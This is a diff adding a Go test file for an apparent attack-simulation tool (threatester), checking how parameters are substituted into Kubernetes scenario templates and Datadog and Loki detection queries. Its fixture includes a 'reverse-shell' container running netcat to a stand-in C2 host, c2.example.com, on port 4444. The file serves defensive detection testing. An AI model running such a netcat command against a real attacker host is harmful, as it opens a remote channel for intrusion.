@@ -0,0 +1,170 @@
+package scenario
+
+import (
+	"reflect"
+	"testing"
+
+	threatestergithubiov1alpha1 "github.com/mrtc0/threatester/api/v1alpha1"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/utils/pointer"
+)
+
+func TestApplyParameters(t *testing.T) {
+	newScenario := func() threatestergithubiov1alpha1.Scenario {
+		return threatestergithubiov1alpha1.Scenario{
+			ObjectMeta: metav1.ObjectMeta{Name: "test-scenario", Namespace: "default"},
+			Spec: threatestergithubiov1alpha1.ScenarioSpec{
+				Parameters: []threatestergithubiov1alpha1.Parameter{
+					{Name: "image", Default: pointer.String("alpine")},
+					{Name: "host"},
+					{Name: "port", Type: threatestergithubiov1alpha1.ParameterTypeInteger, Default: pointer.String("4444")},
+					{Name: "verbose", Type: threatestergithubiov1alpha1.ParameterTypeBoolean, Default: pointer.String("false")},
+				},
+				Arguments: map[string]string{"host": "c2.example.com"},
+				Templates: []threatestergithubiov1alpha1.Template{
+					{
+						Name: "reverse-shell",
+						Container: &corev1.Container{
+							Name:    "reverse-shell",
+							Image:   "{{ .Params.image }}",
+							Command: []string{"sh", "-c", "nc {{ if .Params.verbose }}-v {{ end }}{{ .Params.host }} {{ .Params.port }}"},
+							Env:     []corev1.EnvVar{{Name: "C2_PORT", Value: "{{ .Params.port }}"}},
+						},
+					},
+					{
+						Name:        "library",
+						TemplateRef: &threatestergithubiov1alpha1.TemplateRef{Name: "read-file", Parameters: map[string]string{"path": "/tmp/{{ .Params.host }}"}},
+					},
+				},
+				Expectations: []threatestergithubiov1alpha1.Expectation{
+					{
+						Datadog: &threatestergithubiov1alpha1.DatadogExpectation{
+							Monitor: &threatestergithubiov1alpha1.DatadogMonitor{ID: "1", Status: "Alert", Group: "host:{{ .Params.host }}"},
+						},
+					},
+				},
+			},
+		}
+	}
+
+	t.Run("substitutes typed values", func(t *testing.T) {
+		scenario := newScenario()
+		scenario.Spec.Arguments["verbose"] = "true"
+
+		applied, err := ApplyParameters(scenario)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		container := applied.Spec.Templates[0].Container
+		if container.Image != "alpine" {
+			t.Errorf("expected the default image, got %s", container.Image)
+		}
+
+		if !reflect.DeepEqual(container.Command, []string{"sh", "-c", "nc -v c2.example.com 4444"}) {
+			t.Errorf("unexpected command %v", container.Command)
+		}
+
+		if container.Env[0].Value != "4444" {
+			t.Errorf("expected env 4444, got %s", container.Env[0].Value)
+		}
+
+		if got := applied.Spec.Templates[1].TemplateRef.Parameters["path"]; got != "/tmp/c2.example.com" {
+			t.Errorf("expected the template reference parameter to be substituted, got %s", got)
+		}
+
+		if got := applied.Spec.Expectations[0].Datadog.Monitor.Group; got != "host:c2.example.com" {
+			t.Errorf("expected the monitor group to be substituted, got %s", got)
+		}
+
+		if scenario.Spec.Templates[0].Container.Image != "{{ .Params.image }}" {
+			t.Error("expected the scenario not to be modified")
+		}
+	})
+
+	t.Run("keeps an escaped {{ as is", func(t *testing.T) {
+		scenario := newScenario()
+		scenario.Spec.Templates[0].Container.Args = []string{`kubectl get pods -o go-template='{{"{{"}}range .items}}{{"{{"}}.metadata.name}} {{"{{"}}end}}' -n {{ .Params.host }}`}
+
+		applied, err := ApplyParameters(scenario)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		expected := "kubectl get pods -o go-template='{{range .items}}{{.metadata.name}} {{end}}' -n c2.example.com"
+		if got := applied.Spec.Templates[0].Container.Args[0]; got != expected {
+			t.Errorf("expected %s, got %s", expected, got)
+		}
+	})
+
+	t.Run("substitutes only the references to parameters in queries", func(t *testing.T) {
+		scenario := newScenario()
+		scenario.Spec.Expectations = append(scenario.Spec.Expectations, threatestergithubiov1alpha1.Expectation{
+			Loki: &threatestergithubiov1alpha1.LokiExpectation{
+				URL:   "http://loki:3100",
+				Query: `{job="falco"} | json | line_format "{{.msg}}" |= "{{ .Params.host }}"`,
+			},
+		})
+
+		applied, err := ApplyParameters(scenario)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		expected := `{job="falco"} | json | line_format "{{.msg}}" |= "c2.example.com"`
+		if got := applied.Spec.Expectations[1].Loki.Query; got != expected {
+			t.Errorf("expected %s, got %s", expected, got)
+		}
+	})
+
+	t.Run("leaves scenarios without parameters as they are", func(t *testing.T) {
+		scenario := newScenario()
+		scenario.Spec.Parameters = nil
+		scenario.Spec.Arguments = nil
+
+		applied, err := ApplyParameters(scenario)
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+
+		if applied.Spec.Templates[0].Container.Image != "{{ .Params.image }}" {
+			t.Errorf("expected the image as is, got %s", applied.Spec.Templates[0].Container.Image)
+		}
+	})
+
+	testCases := []struct {
+		name   string
+		modify func(scenario *threatestergithubiov1alpha1.Scenario)
+	}{
+		{name: "missing required argument", modify: func(scenario *threatestergithubiov1alpha1.Scenario) {
+			delete(scenario.Spec.Arguments, "host")
+		}},
+		{name: "undeclared argument", modify: func(scenario *threatestergithubiov1alpha1.Scenario) {
+			scenario.Spec.Arguments["unknown"] = "value"
+		}},
+		{name: "argument of the wrong type", modify: func(scenario *threatestergithubiov1alpha1.Scenario) {
+			scenario.Spec.Arguments["port"] = "http"
+		}},
+		{name: "undeclared parameter referenced", modify: func(scenario *threatestergithubiov1alpha1.Scenario) {
+			scenario.Spec.Templates[0].Container.Args = []string{"{{ .Params.unknown }}"}
+		}},
+		{name: "undeclared parameter referenced in a query", modify: func(scenario *threatestergithubiov1alpha1.Scenario) {
+			scenario.Spec.Expectations[0].Datadog.Logs = &threatestergithubiov1alpha1.DatadogLogs{Query: "host:{{ .Params.unknown }}"}
+		}},
+		{name: "unescaped literal {{", modify: func(scenario *threatestergithubiov1alpha1.Scenario) {
+			scenario.Spec.Templates[0].Container.Args = []string{"awk '{{ print $1 }}'"}
+		}},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			scenario := newScenario()
+			tc.modify(&scenario)
+
+			if _, err := ApplyParameters(scenario); err == nil {
+				t.Error("expected an error")
+			}
+		})
+	}
+}